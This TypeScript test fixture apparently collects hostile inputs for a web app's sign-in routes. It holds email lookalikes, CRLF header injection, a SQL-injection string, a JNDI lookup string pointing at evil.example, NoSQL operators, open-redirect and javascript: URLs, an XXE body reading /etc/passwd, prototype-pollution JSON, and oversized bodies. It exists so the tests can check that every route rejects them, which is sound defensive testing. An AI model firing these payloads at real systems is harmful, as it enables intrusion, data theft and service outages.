// What attackers type, by field. Held against every route by corpora.test.ts, and mixed into the noise of input.db.test.ts.

/** The address that the twins below look like. */
export const OWNER = 'ann@example.com'

/** Letters, marks and spaces that some system somewhere folds into those of OWNER. */
const TWINS = [
  'ann\uff20example.com',
  '\uff41nn@example.com',
  'a\u0274n@example.com',
  '\u0430nn@example.com',
  'ann@ex\u0430mple.com',
  'ann@example\u3002com',
  'ann@example\uff0ecom',
  'ann@exa\u00admple.com',
  'ann@exa\u200bmple.com',
  'ann@example.com\u200d',
  'a\u0301nn@example.com',
  'ann@example.\u212aom',
  '\u202eann@example.com',
  'ann@example.com.',
  'ann\u00a0@example.com',
  'ann@EXAMPLE.\u00a9om',
  'ma\u0131l@example.com',
  'stra\u00dfe@example.com',
  '\u1d00nn@example.com',
]
const IDN = [
  'ann@b\u00fccher.example',
  'ann@xn--bcher-kva.example',
  'ann@xn--a.example',
  'ann@xn--.example',
  'ann@\u4f8b\u3048.example',
  'ann@\u0645\u062b\u0627\u0644.example',
  'ann@\ud83d\udd11.example',
  `ann@${'\u00fc'.repeat(63)}.example`,
  'ann@\u00fc\ud800.example',
]
const CONTROLS = [
  'ann@example.com\r\nBcc: ben@example.com',
  'ann@example.com\n',
  'ann\u0000@example.com',
  'ann@example.com\u0000.evil.example',
  'ann\t@example.com',
  'ann\u001b[2J@example.com',
  'ann@exam\u007fple.com',
  'ann@example.com\u0085',
  'ann@example.com\u2028Bcc: ben@example.com',
]
const LISTS = [
  'ann@example.com,ben@example.com',
  'ann@example.com;ben@example.com',
  'ann@example.com ben@example.com',
  '<ann@example.com>',
  'Ann <ann@example.com>',
  '"ann@evil.example"@example.com',
  'ann@evil.example@example.com',
  'ann(ben@evil.example)@example.com',
  'ann@[192.0.2.1]',
  'ann@[IPv6:::1]',
  'ann@192.0.2.1',
  'ann@0x7f.1',
  'ann%evil.example@example.com',
  'mailto:ann@example.com',
  'ann@example.com?cc=ben@example.com',
  "ann' or '1'='1@example.com",
  'ann@localhost',
  '\u0024{jndi:ldap://evil.example/a}@example.com',
]
/** Not even a string. */
const SHAPES: unknown[] = [
  ['ann@example.com'],
  ['ann@example.com', 'ben@example.com'],
  { email: 'ann@example.com' },
  { toString: 'ann@example.com' },
  { $ne: null },
  [[['ann@example.com']]],
  0,
  Number.MAX_VALUE,
  true,
  null,
  '',
  [],
]
const LONG = [
  'a'.repeat(1_000_000),
  `${'a'.repeat(1_000_000)}@example.com`,
  `ann@${'a.'.repeat(500_000)}com`,
  '@'.repeat(1_000_000),
  `${'a'.repeat(15_000)}@example.com`,
  `ann@${'a.'.repeat(7_000)}com`,
  `${'.'.repeat(15_000)}@example.com`,
  `"${'\\"'.repeat(3_000)}"@example.com`,
  `ann@${'-'.repeat(15_000)}.com`,
  '\u00fc'.repeat(7_000),
]

/** By what is wrong with them. IDN holds some that are addresses; nothing else here is one. */
export const ADDRESSES = { twins: TWINS, IDN, controls: CONTROLS, lists: LISTS, shapes: SHAPES, long: LONG }

const EMOJI = '\u{1f5dd}'

/** Two that some system takes for one: cut at 72 bytes or at NUL, folded, trimmed, or with half of a character replaced. */
export const CONFUSED_PASSWORDS: [what: string, chosen: string, tried: string][] = [
  ['byte 73', `${'a'.repeat(72)}1`, `${'a'.repeat(72)}2`],
  ['byte 73 within a letter', `${'a'.repeat(71)}\u00fc`, `${'a'.repeat(71)}\u00f6`],
  ['64 emoji, the last another', EMOJI.repeat(64), `${EMOJI.repeat(63)}\u{1f511}`],
  ['64 emoji and one more', EMOJI.repeat(64), EMOJI.repeat(65)],
  ['the 256th character', `${'a'.repeat(255)}1`, `${'a'.repeat(255)}2`],
  ['a space at the end', 'a lantern in the hall', 'a lantern in the hall '],
  ['a space at the start', 'a lantern in the hall', ' a lantern in the hall'],
  ['case', 'a lantern in the hall', 'A lantern in the hall'],
  ['width of the letters', 'a lantern in the hall', '\uff41 lantern in the hall'],
  ['a mark on a letter', 'a l\u00e4ntern in the hall', 'a lantern in the hall'],
  ['a mark that nobody sees', 'a lantern\u200b in the hall', 'a lantern in the hall'],
  ['a line end', 'a lantern in the hall\n', 'a lantern in the hall'],
]

/** What no password may hold, because what is stored, sent on or compared would not be what was typed. */
export const BROKEN_PASSWORDS = [
  'a lantern\u0000in the hall',
  '\u0000a lantern in the hall',
  'a lantern in the hall\u0000',
  'a lantern \ud800 in the hall',
  'a lantern in the hall \udfff',
  '\udc00\ud800 a lantern in the hall',
  EMOJI.repeat(257),
  'a'.repeat(257),
  'a'.repeat(15_000),
  'a'.repeat(1_000_000),
]

/** Each is to lead off the site, past a filter that reads it in another way than a browser does. */
export const NEXT_TRICKS = [
  'https://evil.example',
  'HTTPS://evil.example',
  'https:evil.example',
  'https:/evil.example',
  'https:///evil.example',
  'http:evil.example',
  '//evil.example',
  '///evil.example',
  '////evil.example',
  '//evil.example/%2e%2e',
  '//evil.example@localhost:3000',
  '//localhost:3000@evil.example',
  '/\\evil.example',
  '/\\/evil.example',
  '\\evil.example',
  '\\\\evil.example',
  '\\/evil.example',
  '/a\\b',
  '/\t/evil.example',
  '/\n/evil.example',
  '/\r/evil.example',
  '/\u0000/evil.example',
  '/\u007f/evil.example',
  '\t//evil.example',
  ' //evil.example',
  '/ /evil.example',
  '/..//evil.example',
  '/.//evil.example',
  '/%2e//evil.example',
  '/a/..//evil.example',
  '/a/../account',
  '@evil.example',
  '.evil.example',
  'evil.example',
  '?next=//evil.example',
  '#//evil.example',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:alert(1)',
  'file:///etc/passwd',
  'blob:https://evil.example/x',
  'mailto:ann@evil.example',
  '\uff0f\uff0fevil.example',
  '/\uff0fevil.example',
  '\u2044\u2044evil.example',
  `/${'a'.repeat(600)}`,
]

interface Body {
  what: string
  type: string | null
  body: string | Uint8Array<ArrayBuffer>
  headers?: Record<string, string>
}

const JSON_TYPE = 'application/json'
const FORM_TYPE = 'application/x-www-form-urlencoded'
const ACCOUNT = '{"email":"ann@example.com","password":"a lantern in the hall"}'
const utf16 = (text: string) => new Uint8Array(Buffer.from(text, 'utf16le'))

/** Bodies that two parsers read in two ways, or that one of them does not survive. None is taken by any route. */
export const BODIES: Body[] = [
  { what: 'a key twice', type: JSON_TYPE, body: '{"email":"ann@example.com","email":"ben@example.com"}' },
  {
    what: 'a key twice, spelt in escapes',
    type: JSON_TYPE,
    body: String.raw`{"email":"a@b.co","\u0065mail":"c@d.co"}`,
  },
  { what: 'a key twice, further in', type: JSON_TYPE, body: '{"email":{"a":1,"a":2}}' },
  { what: '__proto__', type: JSON_TYPE, body: '{"__proto__":{"remember":true}}' },
  { what: '__proto__ beside the rest', type: JSON_TYPE, body: ACCOUNT.replace('{', '{"__proto__":{"verifiedAt":1},') },
  { what: 'constructor', type: JSON_TYPE, body: '{"constructor":{"prototype":{"admin":true}}}' },
  { what: '__proto__ in a form', type: FORM_TYPE, body: '__proto__=x&__proto__%5Badmin%5D=true' },
  { what: 'a byte order mark', type: JSON_TYPE, body: `\ufeff${ACCOUNT}` },
  { what: 'a byte order mark in a form', type: FORM_TYPE, body: '\ufeffemail=ann%40example.com' },
  { what: 'UTF-16, unsaid', type: JSON_TYPE, body: utf16(ACCOUNT) },
  { what: 'UTF-16, with its mark', type: JSON_TYPE, body: utf16(`\ufeff${ACCOUNT}`) },
  { what: 'UTF-16, said', type: 'application/json; charset=utf-16', body: utf16(ACCOUNT) },
  { what: 'another charset', type: 'application/json; charset=iso-8859-1', body: ACCOUNT },
  { what: 'UTF-7', type: 'application/json; charset=utf-7', body: '+AHs-+AH0-' },
  { what: 'a form in another charset', type: `${FORM_TYPE}; charset=shift_jis`, body: 'email=ann%40example.com' },
  { what: 'bytes that are not UTF-8', type: JSON_TYPE, body: new Uint8Array([0x7b, 0xff, 0xfe, 0x7d]) },
  { what: 'a letter spelt too long', type: JSON_TYPE, body: new Uint8Array([0x7b, 0xc0, 0xa2, 0x7d]) },
  { what: 'deep nesting of lists', type: JSON_TYPE, body: `{"email":${'['.repeat(8000)}${']'.repeat(8000)}}` },
  { what: 'deep nesting of objects', type: JSON_TYPE, body: `${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}` },
  { what: 'nesting that never ends', type: JSON_TYPE, body: '['.repeat(16_000) },
  { what: 'ten thousand keys', type: FORM_TYPE, body: Array.from({ length: 3000 }, (_, n) => `a${n}=`).join('&') },
  { what: 'a number that is none', type: JSON_TYPE, body: '{"remember":1e309}' },
  { what: 'NaN', type: JSON_TYPE, body: '{"remember":NaN}' },
  { what: 'a comment', type: JSON_TYPE, body: '{/* */}' },
  { what: 'a comma too many', type: JSON_TYPE, body: '{"email":"ann@example.com",}' },
  { what: 'single quotes', type: JSON_TYPE, body: "{'email':'ann@example.com'}" },
  { what: 'two documents', type: JSON_TYPE, body: `${ACCOUNT}${ACCOUNT}` },
  { what: 'a list', type: JSON_TYPE, body: `[${ACCOUNT}]` },
  { what: 'null', type: JSON_TYPE, body: 'null' },
  { what: 'a string', type: JSON_TYPE, body: JSON.stringify(ACCOUNT) },
  { what: 'a field twice', type: FORM_TYPE, body: 'email=ann%40example.com&email=ben%40example.com' },
  { what: 'a field as a list', type: FORM_TYPE, body: 'email%5B%5D=ann%40example.com' },
  { what: 'a broken escape', type: FORM_TYPE, body: 'email=ann%4' },
  { what: 'JSON as text', type: 'text/plain', body: ACCOUNT },
  { what: 'JSON in two types', type: `${JSON_TYPE}, text/plain`, body: ACCOUNT },
  { what: 'JSON as a form', type: FORM_TYPE, body: ACCOUNT },
  { what: 'no type at all', type: '', body: ACCOUNT },
  {
    what: 'multipart',
    type: 'multipart/form-data; boundary=x',
    body: '--x\r\nContent-Disposition: form-data; name="email"\r\n\r\na@b.co\r\n--x--',
  },
  { what: 'XML', type: 'application/xml', body: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' },
  { what: 'a megabyte', type: JSON_TYPE, body: ACCOUNT.replace('ann', 'a'.repeat(1_000_000)) },
  { what: 'a length that is not its own', type: JSON_TYPE, body: '{}', headers: { 'content-length': '99999999' } },
]
